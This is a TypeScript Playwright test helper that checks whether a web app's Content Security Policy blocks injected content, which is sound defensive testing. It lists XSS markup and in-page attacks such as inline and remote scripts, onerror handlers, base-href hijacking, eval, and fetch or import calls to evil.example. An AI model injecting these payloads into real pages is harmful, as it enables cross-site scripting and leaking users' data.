import type { Page } from 'playwright/test'

type Violation = { directive: string; what: string }

/** Collects the violations of the page's policy, from now on and after every navigation. */
export async function watchViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = []
  await page.exposeFunction('reportViolation', (one: Violation) => violations.push(one))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective: directive, blockedURI, sample } = event
      const { reportViolation } = window as unknown as { reportViolation: (one: Violation) => void }
      reportViolation({ directive, what: sample || blockedURI })
    })
  })
  return violations
}

/**
 * Markup and the directive that stops it. Each would call `window.ran`, or contact another host, if the page allowed it.
 */
export const markupAttacks = [
  [`<script>ran('an inline script')</script>`, 'script-src-elem'],
  [`<script src="https://evil.example/x.js"></script>`, 'script-src-elem'],
  [`<script src="data:text/javascript,ran('data')"></script>`, 'script-src-elem'],
  [`<img src="/gone.png" onerror="ran('an event handler')">`, 'script-src-attr'],
  [`<style>body { background: url(https://evil.example/seen) }</style>`, 'style-src-elem'],
  [`<p style="background: url(https://evil.example/seen)">x</p>`, 'style-src-attr'],
  [`<base href="https://evil.example/">`, 'base-uri'],
  [`<iframe srcdoc="<p>x</p>" src="https://evil.example/"></iframe>`, 'frame-src'],
  [`<iframe src="/"></iframe>`, 'frame-src'],
  [`<object data="https://evil.example/x"></object>`, 'object-src'],
] as const

/** Runs in the page, like an injected script, and returns the outcome of each attack. */
export async function scriptAttacks(): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {}
  async function attack(name: string, strike: () => unknown): Promise<void> {
    try {
      await strike()
      outcomes[name] = 'went through'
    } catch {
      outcomes[name] = 'stopped'
    }
  }
  const div = document.createElement('div')
  const script = document.createElement('script')
  const { trustedTypes } = window as unknown as {
    trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
  }
  const evil = 'https://evil.example/'
  // Not from the debugger's stack, to which the browser allows more.
  await new Promise((resolve) => setTimeout(resolve))
  // biome-ignore lint/security/noGlobalEval: the point
  await attack('eval', () => globalThis.eval('1'))
  await attack('new Function', () => new Function('return 1')())
  await attack('innerHTML', () => {
    div.innerHTML = '<img src=x onerror=ran()>'
  })
  await attack('a script by its text', () => {
    script.text = 'ran()'
  })
  await attack('a script of another host', () => {
    script.src = `${evil}x.js`
  })
  await attack('an uploaded script', () => {
    script.src = '/api/uploads/1'
  })
  await attack('a worker of its own', () => new Worker(URL.createObjectURL(new Blob(['']))))
  await attack('another service worker', () =>
    navigator.serviceWorker.register('/seed/sw.js', { scope: '/seed/' }),
  )
  await attack('a policy of its own', () => trustedTypes.createPolicy('mine', {}))
  await attack('fetch', () => fetch(evil, { mode: 'no-cors' }))
  await attack('import', () => import(/* @vite-ignore */ `${evil}x.js`))
  return outcomes
}
